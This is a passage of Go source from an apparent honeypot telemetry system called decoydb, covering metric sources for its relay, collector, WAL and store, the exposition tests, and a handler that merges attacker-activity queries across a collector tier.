		bounds, st.BatchHist[:bus.HistBuckets-1], float64(st.Delivered), batches)

	for _, sk := range st.Sinks {
		l := L("sink", sk.Name)
		e.Counter("decoydb_bus_sink_events_total", "Events in successfully delivered batches, per sink.", float64(sk.Events), l)
		e.Counter("decoydb_bus_sink_batches_total", "Batches delivered, per sink.", float64(sk.Batches), l)
		e.Counter("decoydb_bus_sink_failed_events_total", "Events in batches whose delivery errored, per sink.", float64(sk.FailedEvents), l)
		e.Counter("decoydb_bus_sink_errors_total", "Delivery errors, per sink.", float64(sk.Errors), l)
		e.Counter("decoydb_bus_sink_busy_seconds_total", "Cumulative time spent delivering, per sink.", sk.Latency.Seconds(), l)
	}
}

// kindSource adapts *bus.StatsSink (per-kind event counts).
type kindSource struct{ s *bus.StatsSink }

// KindSource wraps a StatsSink as a registry source named "events".
func KindSource(s *bus.StatsSink) Source { return kindSource{s} }

func (s kindSource) Name() string { return "events" }

func (s kindSource) Status() any { return s.s.Counts() }

func (s kindSource) Collect(e *Emitter) {
	c := s.s.Counts()
	const name = "decoydb_events_total"
	const help = "Events observed, by kind."
	e.Counter(name, help, float64(c.Connects), L("kind", "connect"))
	e.Counter(name, help, float64(c.Logins), L("kind", "login"))
	e.Counter(name, help, float64(c.Commands), L("kind", "command"))
	e.Counter(name, help, float64(c.Closes), L("kind", "close"))
	e.Counter(name, help, float64(c.Other), L("kind", "other"))
	e.Counter("decoydb_events_login_ok_total", "Logins the honeypots pretended to accept.", float64(c.LoginOK))
}

// forwardSource adapts *relay.ForwardSink.
type forwardSource struct{ f *relay.ForwardSink }

// ForwardSource wraps a relay forwarder as a registry source named
// "relay".
func ForwardSource(f *relay.ForwardSink) Source { return forwardSource{f} }

func (s forwardSource) Name() string { return "relay" }

func (s forwardSource) Status() any { return s.f.Stats() }

func (s forwardSource) Collect(e *Emitter) {
	st := s.f.Stats()
	l := L("farm", st.Farm)
	conn := 0.0
	if st.Connected {
		conn = 1
	}
	e.Gauge("decoydb_relay_connected", "1 when the forwarder link is up.", conn, l)
	e.Counter("decoydb_relay_enqueued_total", "Events accepted into pending/spool.", float64(st.Enqueued), l)
	e.Counter("decoydb_relay_events_acked_total", "Events the collector has acknowledged.", float64(st.EventsAcked), l)
	e.Counter("decoydb_relay_frames_total", "Frames encoded.", float64(st.Frames), l)
	e.Counter("decoydb_relay_frames_sent_total", "Frame writes completed, retransmits included.", float64(st.FramesSent), l)
	e.Counter("decoydb_relay_frames_acked_total", "Frames acknowledged.", float64(st.FramesAcked), l)
	e.Counter("decoydb_relay_wire_bytes_total", "Compressed frame bytes produced.", float64(st.WireBytes), l)
	e.Counter("decoydb_relay_raw_bytes_total", "Uncompressed payload bytes framed.", float64(st.RawBytes), l)
	e.Counter("decoydb_relay_dials_total", "Dial attempts.", float64(st.Dials), l)
	e.Counter("decoydb_relay_dial_errors_total", "Failed dials.", float64(st.DialErrors), l)
	e.Counter("decoydb_relay_reconnects_total", "Successful dials after the first.", float64(st.Reconnects), l)
	e.Counter("decoydb_relay_shed_total", "Events dropped: spool full, oversized, or retry cap.", float64(st.Shed), l)
	e.Counter("decoydb_relay_dropped_frames_total", "Spooled frames dropped at the retry cap.", float64(st.DroppedFrames), l)
	e.Gauge("decoydb_relay_spool_frames", "Frames currently spooled (unacked).", float64(st.SpoolFrames), l)
	e.Gauge("decoydb_relay_spool_events", "Events in spooled frames.", float64(st.SpoolEvents), l)
	e.Gauge("decoydb_relay_spool_bytes", "Wire bytes the spool occupies.", float64(st.SpoolBytes), l)
	e.Gauge("decoydb_relay_pending_events", "Events not yet framed.", float64(st.Pending), l)
	e.Counter("decoydb_relay_failovers_total", "Cutovers to a different collector.", float64(st.Failovers), l)
	e.Counter("decoydb_relay_reloads_total", "Live endpoint-set reloads applied via SetEndpoints.", float64(st.Reloads), l)
	e.Gauge("decoydb_relay_orphan_frames", "Spooled frames pinned to a collector absent from the current endpoint set.", float64(st.OrphanFrames), l)
	e.Counter("decoydb_relay_orphans_released_total", "Orphaned frames released for retransmission by the orphan-release policy.", float64(st.OrphansReleased), l)
	e.Durations("decoydb_relay_ack_rtt_seconds", "Frame write-to-ack round trip.", st.AckRTT, l)
	for _, ep := range st.Endpoints {
		le := L("collector", ep.Addr)
		cur := 0.0
		if ep.Current {
			cur = 1
		}
		e.Gauge("decoydb_relay_endpoint_current", "1 on the collector currently serving this farm.", cur, l, le)
		e.Gauge("decoydb_relay_endpoint_rank", "Rendezvous rank of this collector for this farm (0 = preferred).", float64(ep.Rank), l, le)
		e.Counter("decoydb_relay_endpoint_dials_total", "Dial attempts, per collector.", float64(ep.Dials), l, le)
		e.Counter("decoydb_relay_endpoint_dial_errors_total", "Failed dials, per collector.", float64(ep.DialErrors), l, le)
		e.Counter("decoydb_relay_endpoint_frames_acked_total", "Frames acknowledged, per collector.", float64(ep.FramesAcked), l, le)
		e.Counter("decoydb_relay_endpoint_events_acked_total", "Events acknowledged, per collector.", float64(ep.EventsAcked), l, le)
		e.Gauge("decoydb_relay_endpoint_pinned_frames", "Spooled frames pinned to this collector (sent, unacked).", float64(ep.PinnedFrames), l, le)
	}
}

// collectorSource adapts *relay.Collector.
type collectorSource struct{ c *relay.Collector }

// CollectorSource wraps the central collector as a registry source
// named "collector".
func CollectorSource(c *relay.Collector) Source { return collectorSource{c} }

func (s collectorSource) Name() string { return "collector" }

func (s collectorSource) Status() any { return s.c.Stats() }

func (s collectorSource) Collect(e *Emitter) {
	st := s.c.Stats()
	e.Counter("decoydb_collector_conns_total", "Accepted connections.", float64(st.Conns))
	e.Counter("decoydb_collector_auths_total", "Connections that passed the token check.", float64(st.Auths))
	e.Counter("decoydb_collector_auth_failures_total", "Rejected authentication attempts.", float64(st.AuthFailures))
	e.Counter("decoydb_collector_bad_frames_total", "Frames rejected as malformed.", float64(st.BadFrames))
	e.Counter("decoydb_collector_frames_total", "Frames ingested.", float64(st.Frames))
	e.Counter("decoydb_collector_events_total", "Deduplicated events ingested.", float64(st.Events))
	e.Counter("decoydb_collector_dup_frames_total", "Retransmitted frames discarded by dedup.", float64(st.DupFrames))
	e.Counter("decoydb_collector_dup_events_total", "Events inside duplicate frames.", float64(st.DupEvents))
	e.Counter("decoydb_collector_wire_bytes_total", "Compressed bytes received.", float64(st.WireBytes))
	e.Counter("decoydb_collector_raw_bytes_total", "Uncompressed bytes received.", float64(st.RawBytes))
	e.Counter("decoydb_collector_sink_errors_total", "Downstream sink errors.", float64(st.SinkErrors))
	e.Gauge("decoydb_collector_active_conns", "Currently open connections.", float64(st.Active))
	e.Gauge("decoydb_collector_listeners", "Listeners registered by Serve.", float64(st.Listeners))
	for _, f := range st.Farms {
		l := L("farm", f.Name)
		e.Counter("decoydb_collector_farm_events_total", "Deduplicated events ingested, per farm.", float64(f.Events), l)
		e.Counter("decoydb_collector_farm_dup_events_total", "Duplicate events discarded, per farm.", float64(f.DupEvents), l)
		e.Gauge("decoydb_collector_farm_last_seq", "Highest ingested sequence in the current epoch, per farm.", float64(f.LastSeq), l)
	}
}

// walSource adapts *wal.Log, labelled so a process running several logs
// (journal + relay spool) keeps them apart.
type walSource struct {
	name string
	l    *wal.Log
}

// WALSource wraps a WAL as a registry source. name distinguishes logs
// within one process (e.g. "journal", "spool"); it becomes both the
// /statusz key ("wal_<name>") and the {log=...} metric label.
func WALSource(name string, l *wal.Log) Source { return walSource{name, l} }

func (s walSource) Name() string { return "wal_" + s.name }

func (s walSource) Status() any { return s.l.Stats() }

func (s walSource) Collect(e *Emitter) {
	st := s.l.Stats()
	l := L("log", s.name)
	e.Counter("decoydb_wal_appended_batches_total", "Batches appended.", float64(st.AppendedBatches), l)
	e.Counter("decoydb_wal_appended_events_total", "Events appended.", float64(st.AppendedEvents), l)
	e.Counter("decoydb_wal_appended_bytes_total", "Record bytes appended.", float64(st.AppendedBytes), l)
	e.Counter("decoydb_wal_syncs_total", "fsync calls issued.", float64(st.Syncs), l)
	e.Counter("decoydb_wal_rotations_total", "Segment rotations.", float64(st.Rotations), l)
	e.Counter("decoydb_wal_marks_total", "Consumer mark records appended.", float64(st.Marks), l)
	e.Counter("decoydb_wal_compacted_segments_total", "Segments deleted by Compact/CompactBefore.", float64(st.Compacted), l)
	e.Counter("decoydb_wal_compacted_bytes_total", "Bytes reclaimed by compaction.", float64(st.CompactedBytes), l)
	e.Gauge("decoydb_wal_segments", "Segment files on disk.", float64(st.Segments), l)
	e.Gauge("decoydb_wal_last_seq", "Highest batch sequence.", float64(st.LastSeq), l)
	e.Gauge("decoydb_wal_mark", "Highest consumer mark.", float64(st.Mark), l)
	e.Gauge("decoydb_wal_active_bytes", "Size of the active segment.", float64(st.ActiveBytes), l)
	e.Durations("decoydb_wal_append_seconds", "Append call duration, compression included.", st.AppendLatency, l)
}

// storeStatus is the /statusz snapshot for an event store.
type storeStatus struct {
	Events  int64 `json:"events"`
	Sources int   `json:"sources"`
	Shards  int   `json:"shards"`
	Days    int   `json:"days"`
}

// storeSource adapts *evstore.Store.
type storeSource struct{ s *evstore.Store }

// StoreSource wraps an event store as a registry source named "store".
func StoreSource(s *evstore.Store) Source { return storeSource{s} }

func (s storeSource) Name() string { return "store" }

func (s storeSource) Status() any {
	return storeStatus{
		Events:  s.s.Events(),
		Sources: s.s.UniqueIPs(evstore.Query{}),
		Shards:  s.s.Shards(),
		Days:    s.s.Days(),
	}
}

func (s storeSource) Collect(e *Emitter) {
	e.Counter("decoydb_store_events_total", "Events ingested into the store.", float64(s.s.Events()))
	e.Gauge("decoydb_store_sources", "Distinct source addresses recorded.", float64(s.s.UniqueIPs(evstore.Query{})))
	e.Gauge("decoydb_store_shards", "Store shard count.", float64(s.s.Shards()))
}
