package obs

import (
	"strings"
	"sync"
	"testing"
	"time"

	"decoydb/internal/core"
)

// fakeSource emits a fixed set of samples.
type fakeSource struct {
	name    string
	collect func(e *Emitter)
}

func (f fakeSource) Name() string       { return f.name }
func (f fakeSource) Collect(e *Emitter) { f.collect(e) }
func (f fakeSource) Status() any        { return f.name }

// TestExpositionGolden pins the exact text exposition: family sort
// order, HELP/TYPE lines, label rendering, cumulative histogram
// buckets with +Inf, integer-vs-float value formatting.
func TestExpositionGolden(t *testing.T) {
	r := NewRegistry()
	r.Register(fakeSource{name: "fake", collect: func(e *Emitter) {
		e.Gauge("zz_last", "Sorted last despite being emitted first.", 1.5)
		e.Counter("aa_events_total", "Events seen.", 42, L("kind", "connect"))
		e.Counter("aa_events_total", "Events seen.", 7, L("kind", "login"))
		e.Histogram("mm_batch_size", "Batch sizes.",
			[]float64{1, 2, 4}, []uint64{3, 1, 0}, 9, 5)
	}})

	var sb strings.Builder
	if err := r.WriteMetrics(&sb); err != nil {
		t.Fatal(err)
	}
	want := `# HELP aa_events_total Events seen.
# TYPE aa_events_total counter
aa_events_total{kind="connect"} 42
aa_events_total{kind="login"} 7
# HELP mm_batch_size Batch sizes.
# TYPE mm_batch_size histogram
mm_batch_size_bucket{le="1"} 3
mm_batch_size_bucket{le="2"} 4
mm_batch_size_bucket{le="4"} 4
mm_batch_size_bucket{le="+Inf"} 5
mm_batch_size_sum 9
mm_batch_size_count 5
# HELP zz_last Sorted last despite being emitted first.
# TYPE zz_last gauge
zz_last 1.5
`
	if sb.String() != want {
		t.Errorf("exposition mismatch\n--- got ---\n%s--- want ---\n%s", sb.String(), want)
	}
}

// TestExpositionEscaping covers label-value and HELP escaping.
func TestExpositionEscaping(t *testing.T) {
	e := NewEmitter()
	e.Counter("x_total", "line one\nline two \\ end", 1, L("v", "a\"b\\c\nd"))
	var sb strings.Builder
	if err := e.Write(&sb); err != nil {
		t.Fatal(err)
	}
	want := "# HELP x_total line one\\nline two \\\\ end\n" +
		"# TYPE x_total counter\n" +
		"x_total{v=\"a\\\"b\\\\c\\nd\"} 1\n"
	if sb.String() != want {
		t.Errorf("escaping mismatch\n--- got ---\n%s--- want ---\n%s", sb.String(), want)
	}
}

// TestDurationsExposition checks the DurationHist translation: bounds in
// seconds, overflow only in +Inf, sum in seconds.
func TestDurationsExposition(t *testing.T) {
	var h core.DurationHist
	h.Observe(time.Microsecond)     // bucket 0
	h.Observe(3 * time.Microsecond) // bucket 2
	h.Observe(time.Hour)            // overflow

	e := NewEmitter()
	e.Durations("lat_seconds", "Latency.", h)
	var sb strings.Builder
	if err := e.Write(&sb); err != nil {
		t.Fatal(err)
	}
	out := sb.String()
	for _, want := range []string{
		`lat_seconds_bucket{le="1e-06"} 1`,
		`lat_seconds_bucket{le="4e-06"} 2`,
		`lat_seconds_bucket{le="+Inf"} 3`,
		"lat_seconds_count 3",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("missing %q in:\n%s", want, out)
		}
	}
}

// TestRegisterDuplicateNames: colliding sources get #N suffixes instead
// of shadowing each other.
func TestRegisterDuplicateNames(t *testing.T) {
	r := NewRegistry()
	r.Register(NewGauge("g", "first"))
	r.Register(NewGauge("g", "second"))
	st := r.Status()
	if _, ok := st["g"]; !ok {
		t.Error("first registration lost its name")
	}
	if _, ok := st["g#2"]; !ok {
		t.Errorf("second registration not suffixed: keys %v", keys(st))
	}
}

func keys(m map[string]any) []string {
	out := make([]string, 0, len(m))
	for k := range m {
		out = append(out, k)
	}
	return out
}

// TestConcurrentScrapeAndUpdate hammers the registry from updaters,
// scrapers and registrars at once — the -race guarantee for the whole
// instrument surface.
func TestConcurrentScrapeAndUpdate(t *testing.T) {
	r := NewRegistry()
	c := NewCounter("c_total", "counter")
	g := NewGauge("g", "gauge")
	h := NewHistogram("h_seconds", "histogram")
	r.Register(c)
	r.Register(g)
	r.Register(h)

	const iters = 500
	var wg sync.WaitGroup
	for w := 0; w < 4; w++ {
		wg.Add(3)
		go func() {
			defer wg.Done()
			for i := 0; i < iters; i++ {
				c.Inc()
				g.Add(1)
				h.Observe(time.Duration(i) * time.Microsecond)
			}
		}()
		go func() {
			defer wg.Done()
			for i := 0; i < iters/10; i++ {
				var sb strings.Builder
				if err := r.WriteMetrics(&sb); err != nil {
					t.Error(err)
					return
				}
				r.Status()
			}
		}()
		go func(w int) {
			defer wg.Done()
			for i := 0; i < iters/50; i++ {
				r.Register(NewGauge("extra", "registered mid-scrape"))
			}
		}(w)
	}
	wg.Wait()

	if c.Value() != 4*iters {
		t.Errorf("counter = %d, want %d", c.Value(), 4*iters)
	}
	if g.Value() != 4*iters {
		t.Errorf("gauge = %v, want %d", g.Value(), 4*iters)
	}
	if got := h.Snapshot().Count; got != 4*iters {
		t.Errorf("histogram count = %d, want %d", got, 4*iters)
	}
}
