package obs

import (
	"context"
	"net/http"
	"net/netip"
	"sort"
	"sync"
	"sync/atomic"
	"time"
)

// FanIn merges /query across a collector tier. Mounted in place of the
// plain QueryHandler on a collector given -peers, it answers every
// query with the union of the local capture and each peer's: a reader
// pointed at any one collector sees the whole tier as a single logical
// capture, no matter how rendezvous hashing spread the farms.
//
// Merge rules:
//
//   - Events and logins are summed — farms partition across collectors,
//     so each event is ingested exactly once tier-wide.
//   - Source records are merged by address: counters sum, first/last
//     seen take the min/max, active days the max (the per-day bitmask
//     does not cross the wire), and the verdict escalates to the most
//     severe any collector assigned. A source only spans collectors
//     during a failover window, so overlap is the exception.
//   - Unique/total counts are the per-collector sums minus the overlap
//     visible in the fetched pages — exact whenever the page covers the
//     selection, an upper bound otherwise.
//   - Credentials merge by (dbms, user, pass), re-sort, and truncate;
//     merging per-collector top-N lists is approximate in the tail, as
//     with any distributed top-K.
//
// Peers are asked for limit+offset records from zero so the merged page
// is correct at any offset. A peer that fails to answer degrades the
// response, not the request: its slot is reported in Tier.Peers and the
// rest of the tier is merged as usual.
type FanInOptions struct {
	// Local answers for this collector's own store. Required.
	Local *QueryHandler
	// Peers are admin-plane addresses (host:port) of the other
	// collectors in the tier.
	Peers []string
	// Timeout bounds each peer fetch. Default 5s.
	Timeout time.Duration
	// Logf logs peer failures; nil discards.
	Logf func(format string, args ...any)
}

// FanIn is an http.Handler and a registry Source (named "tier").
type FanIn struct {
	opts    FanInOptions
	clients []*Client

	queries    atomic.Uint64 // fanned-in queries served
	peerFetches atomic.Uint64
	peerErrors atomic.Uint64
}

// NewFanIn builds the fan-in handler.
func NewFanIn(opts FanInOptions) *FanIn {
	if opts.Timeout <= 0 {
		opts.Timeout = 5 * time.Second
	}
	f := &FanIn{opts: opts}
	for _, addr := range opts.Peers {
		f.clients = append(f.clients, NewClient(addr, opts.Timeout))
	}
	return f
}

// verdictRank orders classify verdicts by severity for merge escalation.
func verdictRank(v string) int {
	switch v {
	case "exploiting":
		return 3
	case "scouting":
		return 2
	case "scanning":
		return 1
	}
	return 0
}

// ServeHTTP implements http.Handler.
func (f *FanIn) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	req, err := ParseQueryRequest(r)
	if err != nil {
		http.Error(w, err.Error(), http.StatusBadRequest)
		return
	}
	// A scope=local request is another fan-in asking for this
	// collector's own capture: answer from the local store and do NOT
	// fan out again, or a tier of fan-ins would recurse forever.
	if req.Scope == ScopeLocal {
		resp, err := f.opts.Local.Respond(req)
		if err != nil {
			http.Error(w, err.Error(), http.StatusBadRequest)
			return
		}
		writeJSON(w, resp)
		return
	}
	local, err := f.opts.Local.Respond(req)
	if err != nil {
		http.Error(w, err.Error(), http.StatusBadRequest)
		return
	}
	f.queries.Add(1)

	// Each peer is asked for its LOCAL capture (peers run fan-ins too;
	// scope=local is the recursion breaker) and for the merged page's
	// worth of records from offset zero: a record on page two locally
	// may be page one tier-wide, and vice versa.
	peerReq := req
	peerReq.Scope = ScopeLocal
	if peerReq.Limit < 0 {
		peerReq.Limit = 0
	}
	if peerReq.Offset > 0 {
		peerReq.Limit += peerReq.Offset
		peerReq.Offset = 0
	}
	// And the local page must span the same range for the same reason.
	if req.Offset > 0 {
		wide := req
		wide.Limit, wide.Offset = peerReq.Limit, 0
		if local, err = f.opts.Local.Respond(wide); err != nil {
			http.Error(w, err.Error(), http.StatusBadRequest)
			return
		}
	}

	type fetched struct {
		addr string
		resp *QueryResponse
		err  error
	}
	results := make([]fetched, len(f.clients))
	var wg sync.WaitGroup
	for i, cl := range f.clients {
		wg.Add(1)
		go func(i int, cl *Client) {
			defer wg.Done()
			ctx, cancel := context.WithTimeout(r.Context(), f.opts.Timeout)
			defer cancel()
			f.peerFetches.Add(1)
			resp, err := cl.Query(ctx, peerReq)
			results[i] = fetched{addr: cl.Base(), resp: resp, err: err}
		}(i, cl)
	}
	wg.Wait()

	merged := local
	tier := &TierInfo{Collectors: 1 + len(f.clients), Responded: 1}
	byAddr := make(map[string]*RecordRow, len(local.Records))
	order := make([]string, 0, len(local.Records))
	for i := range local.Records {
		rec := local.Records[i]
		byAddr[rec.Addr] = &rec
		order = append(order, rec.Addr)
	}
	credKey := func(c CredRow) [3]string { return [3]string{c.DBMS, c.User, c.Pass} }
	creds := make(map[[3]string]int64, len(local.Creds))
	for _, c := range local.Creds {
		creds[credKey(c)] += c.Count
	}
	fetchedRecords := len(local.Records)
	// Overlap subtraction is only exact when every page covered its
	// collector's full selection: a page cut by the limit can hide a
	// record that another collector also holds, so the visible overlap
	// under-counts and subtracting it would turn an upper bound into a
	// wrong-looking exact number. Capture coverage before the merge loop
	// mutates the response.
	covered := len(local.Records) == local.Total

	for _, res := range results {
		if res.err != nil {
			f.peerErrors.Add(1)
			f.logf("obs: tier peer %s: %v", res.addr, res.err)
			tier.Peers = append(tier.Peers, PeerStatus{Addr: res.addr, Error: res.err.Error()})
			continue
		}
		p := res.resp
		tier.Responded++
		tier.Peers = append(tier.Peers, PeerStatus{Addr: res.addr, OK: true, Events: p.Events})

		merged.Events += p.Events
		merged.Logins += p.Logins
		merged.Total += p.Total
		merged.UniqueIPs += p.UniqueIPs
		if p.Days > merged.Days {
			merged.Days = p.Days
		}
		if !p.Start.IsZero() && (merged.Start.IsZero() || p.Start.Before(merged.Start)) {
			merged.Start = p.Start
		}
		fetchedRecords += len(p.Records)
		covered = covered && len(p.Records) == p.Total
		for i := range p.Records {
			rec := p.Records[i]
			have, seen := byAddr[rec.Addr]
			if !seen {
				byAddr[rec.Addr] = &rec
				order = append(order, rec.Addr)
				continue
			}
			have.Sessions += rec.Sessions
			have.Logins += rec.Logins
			have.LoginOK += rec.LoginOK
			have.Commands += rec.Commands
			if rec.FirstSeen.Before(have.FirstSeen) {
				have.FirstSeen = rec.FirstSeen
			}
			if rec.LastSeen.After(have.LastSeen) {
				have.LastSeen = rec.LastSeen
			}
			if rec.ActiveDays > have.ActiveDays {
				have.ActiveDays = rec.ActiveDays
			}
			if verdictRank(rec.Verdict) > verdictRank(have.Verdict) {
				have.Verdict = rec.Verdict
			}
			if have.Country == "" {
				have.Country = rec.Country
			}
			if have.ASN == 0 {
				have.ASN, have.ASName = rec.ASN, rec.ASName
			}
			have.Institutional = have.Institutional || rec.Institutional
		}
		for _, c := range p.Creds {
			creds[credKey(c)] += c.Count
		}
	}

	// Addresses that appeared on more than one collector were counted
	// once per collector in the summed totals. When every page covered
	// its selection the pages expose all of the overlap and the merged
	// counts are exact; otherwise leave the per-collector sums alone
	// (an honest upper bound) and say so via Tier.Approx. A peer that
	// failed to answer also makes the counts approximate — that slice
	// of the tier is missing entirely.
	if covered {
		overlap := fetchedRecords - len(byAddr)
		merged.Total -= overlap
		merged.UniqueIPs -= overlap
	} else {
		tier.Approx = true
	}
	if tier.Responded < tier.Collectors {
		tier.Approx = true
	}

	// Re-sort merged records by address (the per-collector order) and
	// cut the page the caller actually asked for.
	sort.Slice(order, func(i, j int) bool { return addrLess(order[i], order[j]) })
	records := make([]RecordRow, 0, len(order))
	for _, a := range order {
		records = append(records, *byAddr[a])
	}
	offset := req.Offset
	if offset < 0 {
		offset = 0
	}
	if offset > len(records) {
		records = nil
	} else {
		records = records[offset:]
	}
	limit := req.Limit
	if limit < 0 {
		limit = 0
	}
	if limit > f.opts.Local.opts.MaxLimit {
		limit = f.opts.Local.opts.MaxLimit
	}
	if len(records) > limit {
		records = records[:limit]
	}
	merged.Offset = offset
	merged.Records = records

	credRows := make([]CredRow, 0, len(creds))
	for k, n := range creds {
		credRows = append(credRows, CredRow{DBMS: k[0], User: k[1], Pass: k[2], Count: n})
	}
	sort.Slice(credRows, func(i, j int) bool {
		if credRows[i].Count != credRows[j].Count {
			return credRows[i].Count > credRows[j].Count
		}
		a, b := credRows[i], credRows[j]
		if a.DBMS != b.DBMS {
			return a.DBMS < b.DBMS
		}
		if a.User != b.User {
			return a.User < b.User
		}
		return a.Pass < b.Pass
	})
	nCreds := req.Creds
	if nCreds < 0 {
		nCreds = 0
	}
	if nCreds > f.opts.Local.opts.MaxCreds {
		nCreds = f.opts.Local.opts.MaxCreds
	}
	if len(credRows) > nCreds {
		credRows = credRows[:nCreds]
	}
	merged.Creds = credRows
	merged.Tier = tier

	writeJSON(w, merged)
}

// addrLess orders textual addresses numerically when both parse,
// matching the per-collector record order.
func addrLess(a, b string) bool {
	pa, ea := netip.ParseAddr(a)
	pb, eb := netip.ParseAddr(b)
	if ea == nil && eb == nil {
		return pa.Less(pb)
	}
	return a < b
}

func (f *FanIn) logf(format string, args ...any) {
	if f.opts.Logf != nil {
		f.opts.Logf(format, args...)
	}
}

// Name implements Source.
func (f *FanIn) Name() string { return "tier" }

// Status implements Source.
func (f *FanIn) Status() any {
	return map[string]any{
		"peers":        f.opts.Peers,
		"queries":      f.queries.Load(),
		"peer_fetches": f.peerFetches.Load(),
		"peer_errors":  f.peerErrors.Load(),
	}
}

// Collect implements Source.
func (f *FanIn) Collect(e *Emitter) {
	e.Gauge("decoydb_tier_peers", "Peer collectors this one merges /query across.", float64(len(f.opts.Peers)))
	e.Counter("decoydb_tier_queries_total", "Fanned-in queries served.", float64(f.queries.Load()))
	e.Counter("decoydb_tier_peer_fetches_total", "Peer /query fetches issued.", float64(f.peerFetches.Load()))
	e.Counter("decoydb_tier_peer_errors_total", "Peer /query fetches that failed.", float64(f.peerErrors.Load()))
}
