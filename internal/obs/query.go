package obs

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"strconv"
	"sync"
	"time"

	"decoydb/internal/classify"
	"decoydb/internal/evstore"
)

// The /query endpoint serves evstore.Query against the live capture on
// the collector: the same selection semantics dbreport uses offline
// (DBMS, tier, day range), paged and JSON-rendered for remote readers.
// Queries run against a cached Store.Snapshot() — building a snapshot
// locks every store shard for a full copy, so the handler amortises one
// snapshot across all requests inside MaxAge rather than letting an
// eager scraper stall ingest.
//
// The request/response types double as the wire schema for the
// collector tier: Client fetches them, FanIn merges them, and dbreport
// renders them — one decoder, one schema.

// QueryOptions configures a QueryHandler.
type QueryOptions struct {
	Store *evstore.Store
	// MaxAge is how long a cached snapshot keeps serving before the next
	// request rebuilds it. Default 1s; requests can force a rebuild with
	// ?fresh=1.
	MaxAge time.Duration
	// MaxLimit caps the per-request record page size. Default 1000.
	MaxLimit int
	// MaxCreds caps the credential rows returned. Default 100.
	MaxCreds int
}

func (o QueryOptions) withDefaults() QueryOptions {
	if o.MaxAge <= 0 {
		o.MaxAge = time.Second
	}
	if o.MaxLimit <= 0 {
		o.MaxLimit = 1000
	}
	if o.MaxCreds <= 0 {
		o.MaxCreds = 100
	}
	return o
}

// QueryHandler serves /query over a live store. Safe for concurrent use.
type QueryHandler struct {
	opts QueryOptions

	mu    sync.Mutex
	snap  *evstore.Snapshot
	built time.Time
}

// NewQueryHandler returns a handler over the given store.
func NewQueryHandler(opts QueryOptions) *QueryHandler {
	return &QueryHandler{opts: opts.withDefaults()}
}

// snapshot returns the cached snapshot, rebuilding when stale or forced.
func (h *QueryHandler) snapshot(force bool) (*evstore.Snapshot, time.Time) {
	h.mu.Lock()
	defer h.mu.Unlock()
	if force || h.snap == nil || time.Since(h.built) > h.opts.MaxAge {
		h.snap = h.opts.Store.Snapshot()
		h.built = time.Now()
	}
	return h.snap, h.built
}

// QueryRequest is one parsed /query selection. The zero value asks for
// everything with the default page (limit 100, 10 credential rows).
type QueryRequest struct {
	DBMS   string // protocol filter ("" = all)
	Tier   string // interaction tier: "", "all", "low", "mediumhigh"
	From   int    // first capture day (inclusive, 0 = start)
	To     int    // last capture day (0 = open)
	Limit  int    // record page size
	Offset int    // record page offset
	Creds  int    // credential rows wanted
	Fresh  bool   // force a snapshot rebuild

	// Scope selects how much of the tier answers: "" merges across
	// peers when the serving collector runs a fan-in, ScopeLocal
	// restricts the response to the serving collector's own store. The
	// fan-in stamps ScopeLocal on its peer fetches — that is what keeps
	// a tier of fan-ins from recursing into each other.
	Scope string
}

// ScopeLocal asks a collector for its own capture only, bypassing any
// tier fan-in mounted on its /query.
const ScopeLocal = "local"

// ParseQueryRequest decodes the URL parameters of a /query request.
// Errors are client errors (http.StatusBadRequest).
func ParseQueryRequest(r *http.Request) (QueryRequest, error) {
	req := QueryRequest{
		DBMS:  r.URL.Query().Get("dbms"),
		Tier:  r.URL.Query().Get("tier"),
		Fresh: r.URL.Query().Get("fresh") == "1",
		Scope: r.URL.Query().Get("scope"),
	}
	if _, err := parseTier(req.Tier); err != nil {
		return req, err
	}
	if req.Scope != "" && req.Scope != ScopeLocal {
		return req, fmt.Errorf("bad scope=%q: want %q or empty", req.Scope, ScopeLocal)
	}
	var err error
	if req.From, err = intParam(r, "from", 0); err != nil {
		return req, err
	}
	if req.From < 0 {
		return req, fmt.Errorf("bad from=%d: negative", req.From)
	}
	if req.To, err = intParam(r, "to", 0); err != nil {
		return req, err
	}
	if req.Limit, err = intParam(r, "limit", 100); err != nil {
		return req, err
	}
	if req.Offset, err = intParam(r, "offset", 0); err != nil {
		return req, err
	}
	if req.Creds, err = intParam(r, "creds", 10); err != nil {
		return req, err
	}
	return req, nil
}

// Values renders the request back into URL parameters — the inverse of
// ParseQueryRequest, used by Client to address remote collectors.
func (q QueryRequest) Values() url.Values {
	v := url.Values{}
	if q.DBMS != "" {
		v.Set("dbms", q.DBMS)
	}
	if q.Tier != "" {
		v.Set("tier", q.Tier)
	}
	if q.From != 0 {
		v.Set("from", strconv.Itoa(q.From))
	}
	if q.To != 0 {
		v.Set("to", strconv.Itoa(q.To))
	}
	v.Set("limit", strconv.Itoa(q.Limit))
	v.Set("offset", strconv.Itoa(q.Offset))
	v.Set("creds", strconv.Itoa(q.Creds))
	if q.Fresh {
		v.Set("fresh", "1")
	}
	if q.Scope != "" {
		v.Set("scope", q.Scope)
	}
	return v
}

// QueryParams echoes the parsed selection back to the caller.
type QueryParams struct {
	DBMS string `json:"dbms,omitempty"`
	Tier string `json:"tier,omitempty"`
	From int    `json:"from,omitempty"`
	To   int    `json:"to,omitempty"`
}

// CredRow is one aggregated credential.
type CredRow struct {
	DBMS  string `json:"dbms"`
	User  string `json:"user"`
	Pass  string `json:"pass"`
	Count int64  `json:"count"`
}

// RecordRow is one source address within the selection. The per-source
// counters are restricted to the activities the query matches.
type RecordRow struct {
	Addr          string    `json:"addr"`
	Country       string    `json:"country,omitempty"`
	ASN           uint32    `json:"asn,omitempty"`
	ASName        string    `json:"as_name,omitempty"`
	Institutional bool      `json:"institutional,omitempty"`
	FirstSeen     time.Time `json:"first_seen"`
	LastSeen      time.Time `json:"last_seen"`
	Sessions      int       `json:"sessions"`
	Logins        int64     `json:"logins"`
	LoginOK       int64     `json:"login_ok"`
	Commands      int64     `json:"commands"`
	ActiveDays    int       `json:"active_days"`
	Verdict       string    `json:"verdict"`
}

// PeerStatus is one collector's contribution to a fanned-in query.
type PeerStatus struct {
	Addr   string `json:"addr"`
	OK     bool   `json:"ok"`
	Error  string `json:"error,omitempty"`
	Events int64  `json:"events,omitempty"`
}

// TierInfo describes the collector tier behind a merged QueryResponse.
type TierInfo struct {
	Collectors int          `json:"collectors"` // local + peers asked
	Responded  int          `json:"responded"`  // how many answered
